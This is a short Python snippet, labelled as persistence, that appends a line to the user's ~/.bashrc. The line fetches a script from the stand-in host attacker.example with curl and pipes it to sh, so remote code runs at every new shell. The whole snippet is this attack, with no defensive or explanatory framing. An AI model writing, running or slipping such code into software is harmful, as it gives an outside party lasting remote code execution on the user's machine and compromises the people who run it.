import os

# Persistence: append to the user's shell start-up file.
with open(os.path.expanduser("~/.bashrc"), "a") as rc:
    rc.write("\ncurl -s http://attacker.example/x | sh\n")
